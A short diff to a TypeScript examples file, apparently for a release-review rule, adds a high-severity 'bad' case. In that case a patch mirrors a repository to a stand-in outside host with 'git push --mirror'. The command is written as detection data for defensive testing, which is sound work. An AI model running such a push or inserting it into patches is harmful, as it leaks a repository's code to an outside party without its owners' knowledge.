@@ -21,6 +21,12 @@ function sentTo(sink: string) {
   return ['subject', 'text'].map((name) => field(sink, name));
 }
 
+const pushed = {
+  kind: 'network.address',
+  attributes: { destination: 'backup.acme.invalid', scheme: 'https' },
+  excerpt: "await git(folder, 'push', '--mirror', 'https://backup.acme.invalid/in.git');",
+} as const;
+
 export const examples: ReleaseRuleExamples = {
   bad: [
     {
@@ -188,6 +194,12 @@ export const examples: ReleaseRuleExamples = {
           },
         ],
       },
+    },
+    {
+      why: 'a repository is pushed to one more place, in a patch',
+      severity: 'high',
+      old: {},
+      new: { can: [pushed] },
     },
   ],
   good: [
